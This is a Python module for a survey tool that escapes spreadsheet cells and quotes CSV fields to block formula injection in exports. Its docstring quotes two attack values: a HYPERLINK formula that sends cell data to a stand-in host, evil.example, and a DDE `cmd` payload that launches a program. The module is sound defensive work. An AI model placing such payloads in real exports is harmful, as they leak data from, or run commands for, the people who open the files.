"""Spreadsheet exports that cannot run formulas.

A spreadsheet program treats a cell that starts with `=`, `+`, `-` or `@` (and, in some
programs, a tab or a carriage return) as a formula, so a survey title such as
`=HYPERLINK("https://evil.example/?"&A2, "Open")` written by one user would run on the computer of
the person who opens the export. OWASP's advice is to prefix such text cells with a single quote,
which the spreadsheet shows as plain text. Numbers stay numbers, also when written as text
(`-0.25`); only other text is changed.

Every CSV or XLSX Upward writes goes through `safe_cell`/`safe_row` (or `csv_writer`).

CSV files also quote every field (`CSV_OPTIONS`): a spreadsheet set to split on semicolons would
otherwise read `Ben;=cmd|' /C calc'!A0` as two cells, the second a formula that the prefix
check never saw because the text starts with "B". Inside quotes a separator is just a character.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Every CSV field quoted, whatever the reader's separator (see above).
CSV_OPTIONS: dict[str, Any] = {"quoting": csv.QUOTE_ALL}
# A plain number written as text ("-0.25", "+3") cannot run anything and must stay a number.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value, with a `'` in front if it is text a spreadsheet would read as a formula."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


class SafeCsvWriter:
    """A `csv.writer` whose rows are escaped with `safe_row`."""

    def __init__(self, stream: Any, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, *args, **{**CSV_OPTIONS, **kwargs})

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, *args: Any, **kwargs: Any) -> SafeCsvWriter:
    return SafeCsvWriter(stream, *args, **kwargs)
